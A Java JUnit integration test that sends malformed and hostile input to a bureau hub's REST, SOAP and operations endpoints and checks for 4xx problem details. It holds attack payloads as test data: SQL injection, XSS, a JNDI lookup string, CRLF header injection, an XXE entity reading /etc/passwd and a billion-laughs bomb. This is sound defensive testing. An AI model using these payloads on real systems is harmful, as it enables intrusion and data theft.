package cn.beijing.scienceedu.adapters;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Supplier;

import org.junit.jupiter.api.Test;

import cn.beijing.scienceedu.testsupport.TestTokens;

/**
 * Bad input on every inbound HTTP surface (REST bureau endpoints, SOAP endpoint, operations API) is
 * answered 4xx: an RFC 9457 problem detail on REST and operations, a SOAP Client fault on SOAP — never a
 * 5xx, never a stack trace.
 */
class InboundHttpProblemsTest extends AdaptersIntegrationTest {

    private static final String SOAP_NS = "urn:cn:beijing:scienceedu:hub:bureau:v1";

    record Case(String name, HttpRequest.Builder request) {
    }

    @Test
    void badRequestsToTheRestBureauEndpointsAreProblemDetailsNeverServerErrors() throws Exception {
        String t = newTaskId("SJW");
        publish("task.dispatched", t, "SJW", 1, Map.of());
        await().until(() -> !received("SJW", t, "ASSIGNMENT").isEmpty());
        String bureau = TestTokens.bureau("SJW");
        String base = "/api/v1/bureau/tasks/" + t;
        List<Case> cases = new ArrayList<>();
        for (String op : List.of("sign-for", "progress-reports", "submission", "extension-requests")) {
            cases.add(json(op + " malformed JSON", base + "/" + op, bureau, "{\"messageId\":"));
            cases.add(json(op + " empty body", base + "/" + op, bureau, ""));
            cases.add(json(op + " array body", base + "/" + op, bureau, "[1,2,3]"));
            cases.add(json(op + " wrong types", base + "/" + op, bureau,
                    "{\"messageId\":{\"a\":1},\"period\":7,\"percentComplete\":\"half\",\"requestedDeadline\":\"tomorrow\",\"kpiValues\":\"x\"}"));
            cases.add(json(op + " missing fields", base + "/" + op, bureau, "{}"));
            cases.add(new Case(op + " wrong content type", request(base + "/" + op).header("Authorization", "Bearer " + bureau)
                    .header("Content-Type", "text/plain").POST(HttpRequest.BodyPublishers.ofString("hello"))));
            cases.add(new Case(op + " bad UTF-8", request(base + "/" + op).header("Authorization", "Bearer " + bureau)
                    .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofByteArray(
                            new byte[] {'{', '"', 'm', 'e', 's', 's', 'a', 'g', 'e', 'I', 'd', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'}))));
            cases.add(json(op + " huge body (Content-Length)", base + "/" + op, bureau,
                    "{\"messageId\":\"x\",\"narrative\":\"" + "长".repeat(100_000) + "\"}"));
            cases.add(new Case(op + " huge body (chunked)", request(base + "/" + op).header("Authorization", "Bearer " + bureau)
                    .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofInputStream(
                            (Supplier<java.io.InputStream>) () -> new ByteArrayInputStream(("{\"messageId\":\"x\",\"summary\":\""
                                    + "a".repeat(200_000) + "\"}").getBytes(StandardCharsets.UTF_8))))));
        }
        cases.add(json("overlong task id", "/api/v1/bureau/tasks/" + "T".repeat(300) + "/sign-for", bureau,
                "{\"messageId\":\"m-" + UUID.randomUUID() + "\"}"));
        cases.add(new Case("wrong method", request(base + "/sign-for").header("Authorization", "Bearer " + bureau).DELETE()));
        for (Case c : cases) {
            HttpResponse<String> r = send(c.request());
            assertProblem(c.name(), r);
        }
        // nothing of it reached the task-service
        assertThat(SimulatorHarness.TASK_SERVICE.callsFor(t)).isEmpty();

        // injection strings are text like any other: refused by validation or carried as text, never a 5xx
        String t2 = newTaskId("SJW");
        publish("task.dispatched", t2, "SJW", 1, Map.of());
        await().until(() -> !received("SJW", t2, "ASSIGNMENT").isEmpty());
        for (String op : List.of("sign-for", "progress-reports", "submission", "extension-requests")) {
            HttpResponse<String> r = send(json("injection", "/api/v1/bureau/tasks/" + t2 + "/" + op, bureau,
                    "{\"messageId\":\"'; drop table delivery; -- " + op + "\",\"period\":\"<script>alert(1)</script>\","
                            + "\"percentComplete\":1,\"summary\":\"${jndi:ldap://x/a}\",\"reason\":\"\\u0000\","
                            + "\"requestedDeadline\":\"2025-01-01' or 1=1\"}").request());
            assertThat(r.statusCode()).as(op + ": " + r.body()).isLessThan(500);
            if (r.statusCode() >= 400) {
                assertProblem("injection " + op, r);
            }
        }
        assertThat(jdbc.queryForObject("select count(*) from delivery", Integer.class)).isPositive();
    }

    @Test
    void anOverlongIdempotencyKeyIs400AndARefusalByTheTaskServiceIsAProblemWithTheReceipt() throws Exception {
        String t = newTaskId("SJW");
        publish("task.dispatched", t, "SJW", 1, Map.of());
        await().until(() -> !received("SJW", t, "ASSIGNMENT").isEmpty());
        HttpResponse<String> longKey = send(request("/api/v1/bureau/tasks/" + t + "/submission")
                .header("Authorization", "Bearer " + TestTokens.bureau("SJW")).header("Content-Type", "application/json")
                .header("Idempotency-Key", "k".repeat(300))
                .POST(HttpRequest.BodyPublishers.ofString("{\"messageId\":\"m-" + UUID.randomUUID() + "\",\"summary\":\"已完成\"}")));
        assertProblem("overlong Idempotency-Key", longKey);
        assertThat(longKey.statusCode()).isEqualTo(400);

        SimulatorHarness.TASK_SERVICE.answer(t, 409);
        String messageId = "m-" + UUID.randomUUID();
        HttpResponse<String> refused = post("/api/v1/bureau/tasks/" + t + "/submission", TestTokens.bureau("SJW"),
                "{\"messageId\":\"" + messageId + "\",\"summary\":\"已完成\"}");
        assertProblem("task-service conflict", refused);
        assertThat(refused.statusCode()).isEqualTo(409);
        assertThat(refused.body()).contains("\"outcome\":\"REJECTED\"").contains("\"receiptId\"").contains(messageId)
                .contains("refused by task-service");
    }

    /**
     * Found by the long hostile-caller run (R2, 10,000 requests): a bureau's message id went into the task-service's
     * {@code Idempotency-Key} header as it was, so CR/LF, a NUL, an emoji or a right-to-left mark made the HTTP client
     * throw (500). Control characters are now refused (400); any other character is the bureau's own choice, carried
     * in the body unchanged with a header-safe key derived from it.
     */
    @Test
    void aMessageIdAnHttpHeaderCannotCarryIsRefusedOrCarriedNeverA500() throws Exception {
        String t = newTaskId("SJW");
        publish("task.dispatched", t, "SJW", 1, Map.of());
        await().until(() -> !received("SJW", t, "ASSIGNMENT").isEmpty());
        String bureau = TestTokens.bureau("SJW");
        for (String id : List.of("line\\r\\nSet-Cookie: hijacked=1", "\\u0000nul", "tab\\there")) {
            HttpResponse<String> r = post("/api/v1/bureau/tasks/" + t + "/progress-reports", bureau,
                    "{\"messageId\":\"" + id + "\",\"period\":\"2025-Q1\",\"percentComplete\":10}");
            assertProblem("messageId " + id, r);
            assertThat(r.statusCode()).as(id).isEqualTo(400);
            assertThat(r.body()).contains("messageId");
        }
        assertThat(SimulatorHarness.TASK_SERVICE.callsFor(t)).isEmpty();

        String chinese = "进展报送-2025第一季度-" + UUID.randomUUID();
        for (String id : List.of(chinese, "\u202eevil\u202c-" + UUID.randomUUID(), "😀-" + UUID.randomUUID(),
                "科学教育' OR 1=1 -- " + UUID.randomUUID())) {
            HttpResponse<String> r = post("/api/v1/bureau/tasks/" + t + "/progress-reports", bureau,
                    json.writeValueAsString(Map.of("messageId", id, "period", "2025-Q1", "percentComplete", 10)));
            assertThat(r.statusCode()).as(id + ": " + r.body()).isEqualTo(200);
        }
        List<FakeTaskService.Call> calls = SimulatorHarness.TASK_SERVICE.callsFor(t);
        assertThat(calls).hasSize(4);
        assertThat(calls).allSatisfy(c -> assertThat(c.idempotencyKey()).matches("mid-[0-9a-f-]{36}"));
        assertThat(calls.get(0).body()).contains(chinese); // the bureau's own id, unchanged, in the body
        // the same message sent again: the same derived key, answered from the adapters' own record (one effect)
        HttpResponse<String> again = post("/api/v1/bureau/tasks/" + t + "/progress-reports", bureau,
                json.writeValueAsString(Map.of("messageId", chinese, "period", "2025-Q1", "percentComplete", 10)));
        assertThat(again.statusCode()).isEqualTo(200);
        assertThat(again.body()).contains("\"duplicate\":true");
        assertThat(SimulatorHarness.TASK_SERVICE.callsFor(t)).hasSize(4);
    }

    @Test
    void aMultipartBodyWithoutBoundaryAndARequestTomcatRefusesAreProblemsToo() throws Exception {
        String t = newTaskId("SJW");
        HttpResponse<String> multipart = send(request("/api/v1/bureau/tasks/" + t + "/sign-for")
                .header("Authorization", "Bearer " + TestTokens.bureau("SJW")).header("Content-Type", "multipart/form-data")
                .POST(HttpRequest.BodyPublishers.ofString("{\"messageId\":\"m-1\"}")));
        assertProblem("multipart without boundary", multipart);
        HttpResponse<String> operations = send(request("/api/v1/operations/parked-deliveries/replay")
                .header("Authorization", "Bearer " + operator()).header("Content-Type", "multipart/form-data")
                .POST(HttpRequest.BodyPublishers.ofString("{\"unit\":\"SJW\"}")));
        assertProblem("operations: multipart without boundary", operations);

        // a request line Tomcat refuses itself ('{' unencoded in the path): its HTML error page, before this fix
        try (java.net.Socket socket = new java.net.Socket("localhost", SimulatorHarness.ADAPTERS_PORT)) {
            socket.setSoTimeout(10_000);
            socket.getOutputStream().write(("GET /api/v1/operations/dead-letter-queues/{{7*7}}/replay HTTP/1.1\r\n"
                    + "Host: localhost\r\nConnection: close\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
            String answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            assertThat(answer).startsWith("HTTP/1.1 400");
            assertThat(answer).containsIgnoringCase("Content-Type: application/problem+json").contains("\"status\":400")
                    .doesNotContain("<html");
        }
    }

    @Test
    void aBodyOverTheLimitIs413() throws Exception {
        HttpResponse<String> r = send(request("/api/v1/bureau/tasks/T-SJW-x/progress-reports")
                .header("Authorization", "Bearer " + TestTokens.bureau("SJW")).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString("{\"narrative\":\"" + "a".repeat(70 * 1024) + "\"}")));
        assertThat(r.statusCode()).isEqualTo(413);
        assertThat(r.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
    }

    @Test
    void badXmlOnTheSoapEndpointIsAClientFaultNeverAServerError() throws Exception {
        String bureau = TestTokens.bureau("SKW");
        Map<String, String> bodies = new java.util.LinkedHashMap<>();
        bodies.put("not XML", "hello, this is not xml");
        bodies.put("truncated envelope", "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body>");
        bodies.put("empty", "");
        bodies.put("wrong root", "<a/>");
        bodies.put("XXE", """
                <?xml version="1.0"?>
                <!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
                <soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:b="%s"><soapenv:Body>
                <b:BureauReport><b:MessageId>&xxe;</b:MessageId><b:Kind>SIGN_FOR</b:Kind><b:TaskId>T-SKW-1</b:TaskId>
                <b:UnitCode>SKW</b:UnitCode></b:BureauReport></soapenv:Body></soapenv:Envelope>""".formatted(SOAP_NS));
        bodies.put("billion laughs", """
                <?xml version="1.0"?>
                <!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
                <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
                <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
                <soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>&lol4;</soapenv:Body></soapenv:Envelope>""");
        bodies.put("GBK bytes declared UTF-8", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body>签收</soapenv:Body></soapenv:Envelope>");
        for (Map.Entry<String, String> b : bodies.entrySet()) {
            byte[] bytes = b.getKey().startsWith("GBK") ? b.getValue().getBytes(java.nio.charset.Charset.forName("GBK"))
                    : b.getValue().getBytes(StandardCharsets.UTF_8);
            HttpResponse<String> r = send(request("/soap/bureau").header("Authorization", "Bearer " + bureau)
                    .header("Content-Type", "text/xml; charset=UTF-8").POST(HttpRequest.BodyPublishers.ofByteArray(bytes)));
            assertThat(r.statusCode()).as(b.getKey() + ": " + r.body()).isBetween(400, 499);
            assertThat(r.body()).as(b.getKey()).contains("<faultcode>soapenv:Client</faultcode>").doesNotContain("root:")
                    .doesNotContain("\tat ");
        }
        assertThat(send(request("/soap/bureau").header("Authorization", "Bearer " + bureau)
                .header("Content-Type", "text/xml").POST(HttpRequest.BodyPublishers.ofString(""))).body())
                .doesNotContain("Exception");
        HttpResponse<String> wrongType = send(request("/soap/bureau").header("Authorization", "Bearer " + bureau)
                .header("Content-Type", "application/json").POST(HttpRequest.BodyPublishers.ofString("{}")));
        assertProblem("SOAP with JSON content type", wrongType);
        assertThat(wrongType.statusCode()).isEqualTo(415);
    }

    @Test
    void badRequestsToTheOperationsApiAreProblemDetailsNeverServerErrors() throws Exception {
        String op = operator();
        List<Case> cases = new ArrayList<>();
        cases.add(new Case("limit not a number", request("/api/v1/operations/parked-deliveries?limit=abc")
                .header("Authorization", "Bearer " + op).GET()));
        cases.add(new Case("limit out of range", request("/api/v1/operations/message-log?limit=100000")
                .header("Authorization", "Bearer " + op).GET()));
        cases.add(new Case("direction not in enum", request("/api/v1/operations/message-log?direction=SIDEWAYS")
                .header("Authorization", "Bearer " + op).GET()));
        cases.add(json("replay malformed", "/api/v1/operations/parked-deliveries/replay", op, "{\"deliveryIds\":"));
        cases.add(json("replay wrong types", "/api/v1/operations/parked-deliveries/replay", op, "{\"deliveryIds\":\"all\"}"));
        // what the spec forbids and the server accepted (issue 17): a null or empty id, an empty unit
        cases.add(json("replay null id", "/api/v1/operations/parked-deliveries/replay", op, "{\"deliveryIds\":[null],\"unit\":\"\"}"));
        cases.add(json("replay null id alone", "/api/v1/operations/parked-deliveries/replay", op, "{\"deliveryIds\":[null]}"));
        cases.add(json("replay empty id", "/api/v1/operations/parked-deliveries/replay", op, "{\"deliveryIds\":[\"\"]}"));
        cases.add(json("discard without reason", "/api/v1/operations/parked-deliveries/nope/discard", op, "{}"));
        cases.add(json("discard of an unknown delivery", "/api/v1/operations/parked-deliveries/"
                + "%27%3B%20drop%20table%20delivery/discard", op, "{\"reason\":\"x\"}"));
        cases.add(new Case("unknown delivery", request("/api/v1/operations/parked-deliveries/" + UUID.randomUUID())
                .header("Authorization", "Bearer " + op).GET()));
        cases.add(json("replay of an unknown dead-letter queue", "/api/v1/operations/dead-letter-queues/x.dlq/replay", op, ""));
        cases.add(json("dead-letter max not a number", "/api/v1/operations/dead-letter-queues/hub.task-events.adapters.dlq/replay?max=lots", op, ""));
        cases.add(new Case("verify with an odd unit", request("/api/v1/operations/message-log/verify?unit=%00%27")
                .header("Authorization", "Bearer " + op).POST(HttpRequest.BodyPublishers.noBody())));
        cases.add(new Case("no such path", request("/api/v1/operations/nothing-here").header("Authorization", "Bearer " + op).GET()));
        for (Case c : cases) {
            HttpResponse<String> r = send(c.request());
            assertProblem(c.name(), r);
        }
    }

    private static Case json(String name, String path, String token, String body) {
        return new Case(name, request(path).header("Authorization", "Bearer " + token).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(body)));
    }

    static void assertProblem(String what, HttpResponse<String> r) {
        assertThat(r.statusCode()).as(what + ": " + r.body()).isBetween(400, 499);
        assertThat(r.headers().firstValue("Content-Type").orElse("")).as(what)
                .isEqualTo("application/problem+json;charset=UTF-8");
        assertThat(r.body()).as(what).contains("\"status\":" + r.statusCode()).doesNotContain("\tat ")
                .doesNotContain("Exception").doesNotContain("stackTrace").doesNotContain("\"trace\"")
                .containsPattern("\"type\":\"urn:bureau-hub:problem:[a-z-]+\"")
                .containsPattern("\"traceId\":\"[0-9a-f]{32}\"");
    }
}
